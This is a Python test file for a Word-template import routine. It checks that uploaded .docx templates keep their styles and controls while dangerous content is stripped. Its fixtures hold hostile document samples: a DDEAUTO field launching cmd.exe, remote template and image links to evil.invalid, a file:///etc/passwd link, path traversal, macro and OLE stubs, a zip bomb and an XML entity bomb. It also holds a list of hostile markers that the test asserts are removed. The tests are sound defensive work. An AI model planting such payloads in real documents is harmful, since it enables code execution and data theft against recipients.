"""What may be used of an uploaded template is kept, and nothing that acts or reaches outside the file."""

import io
import zipfile
from pathlib import Path

import pytest

from quire.domain.errors import Unreadable
from quire.domain.templates.word_templates import ReadTemplate
from quire.formats.file_process import FileProcess
from quire.formats.word_package import WordPackage
from tests.formats.exporting.house_template import COVER, R, W, control, house_template, relationships


async def taken_in(reader: FileProcess, folder: Path, file: bytes) -> ReadTemplate:
    path = folder / "template.docx"
    path.write_bytes(file)
    return await reader.read_template(path)


async def test_styles_pages_and_controls_are_kept_under_known_names(
    reader: FileProcess, tmp_path: Path
) -> None:
    template = await taken_in(reader, tmp_path, house_template())
    assert (template.has_cover, template.controls) == (True, ("title", "version", "date", "body"))
    parts = {name: part.decode("latin-1") for name, part in WordPackage.of(template.content).parts.items()}
    styles = parts["word/styles.xml"]
    assert 'w:styleId="Heading1"' in styles
    assert '<w:basedOn w:val="Normal" />' in styles
    assert "berschrift" not in styles + parts["word/numbering.xml"]
    assert '<w:pStyle w:val="Heading2" />' in parts["word/numbering.xml"]
    assert '<w:pStyle w:val="Title" />' in parts["word/document.xml"]
    assert sum(name.startswith("word/media/template_") for name in parts) == 1
    # Attributes of newer releases would name prefixes that nothing declares any more.
    assert "Ignorable" not in parts["word/document.xml"]
    assert "paraId" not in parts["word/document.xml"]


HOSTILE = (
    '<w:altChunk r:id="rId20"/>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText>PICTURE "http://evil.invalid/x.png" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kept words</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId21"/></w:object></w:r>'
    '<w:hyperlink r:id="rId22"><w:r><w:t>file link</w:t></w:r></w:hyperlink>'
    '<w:hyperlink r:id="rId23"><w:r><w:t>web link</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:r><w:drawing><a:blip r:link="rId24"/></w:drawing></w:r></w:p>'
)
_OUTSIDE = ' TargetMode="External"'
_LINES = {
    "rId20": ("aFChunk", "chunk.html", ""),
    "rId21": ("oleObject", "embeddings/x.bin", ""),
    "rId22": ("hyperlink", "file:///etc/passwd", _OUTSIDE),
    "rId23": ("hyperlink", "https://acme.invalid/", _OUTSIDE),
    "rId24": ("image", "http://evil.invalid/logo.png", _OUTSIDE),
    "rId25": ("header", "../../outside.xml", ""),
}
_PARTS: dict[str, str | bytes] = {
    "word/vbaProject.bin": b"macro",
    "word/chunk.html": "<script>alert(1)</script>",
    "word/embeddings/x.bin": b"ole",
    "word/_rels/settings.xml.rels": relationships(
        {"rId1": ("attachedTemplate", "http://evil.invalid/t.dotm", _OUTSIDE)}
    ),
    "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
}


async def test_nothing_that_acts_or_reaches_outside_is_kept(reader: FileProcess, tmp_path: Path) -> None:
    file = house_template(COVER + HOSTILE + control("body", inline=False), parts=_PARTS, lines=_LINES)
    kept = WordPackage.of((await taken_in(reader, tmp_path, file)).content).parts
    whole = b"".join(kept.values())
    for hostile in (
        b"evil.invalid",
        b"macro",
        b"alert",
        b"DDEAUTO",
        b"PICTURE",
        b"passwd",
        b"OLE",
        b"dataBinding",
    ):
        assert hostile not in whole
    for harmless in (b"kept words", b"shown", b"file link", b"https://acme.invalid/", b" PAGE "):
        assert harmless in whole
    assert all(name.startswith(("word/", "_rels/", "[Content_Types]")) for name in kept)


def strict(file: bytes) -> bytes:
    """The file in the strict form of the standard."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(file)) as read, zipfile.ZipFile(made, "w") as written:
        for name in read.namelist():
            strict_name = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
            written.writestr(name, read.read(name).replace(W.encode(), strict_name))
    return made.getvalue()


@pytest.mark.parametrize(
    ("file", "sentence"),
    [
        (b"plain text", "damaged"),
        (house_template()[:-200], "damaged"),
        (house_template(parts={"word/styles.xml": "<w:styles"}), "damaged"),
        (house_template(parts={"word/document.xml": f'<w:document xmlns:w="{W}"/>'}), "damaged"),
        (strict(house_template()), "Strict"),
        (house_template(parts={"word/media/bomb.png": b"\0" * 90_000_000}), "far too large"),
        (house_template(parts={"../outside.xml": "<a/>"}), "damaged"),
    ],
    ids=["text", "cut", "styles", "no body", "strict", "bomb", "outside"],
)
async def test_a_template_that_cannot_be_used_says_why(
    reader: FileProcess, tmp_path: Path, file: bytes, sentence: str
) -> None:
    with pytest.raises(Unreadable, match=sentence):
        await taken_in(reader, tmp_path, file)


async def test_another_office_file_is_no_template(reader: FileProcess, tmp_path: Path) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(Unreadable, match="no Word file"):
        await taken_in(reader, tmp_path, made.getvalue())


async def test_entities_of_a_template_expand_within_its_process(reader: FileProcess, tmp_path: Path) -> None:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 20}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE w [<!ENTITY e0 "aaaa">{entities}]><w:styles xmlns:w="{W}">&e11;</w:styles>'
    with pytest.raises(Unreadable):
        await taken_in(reader, tmp_path, house_template(parts={"word/styles.xml": bomb}))
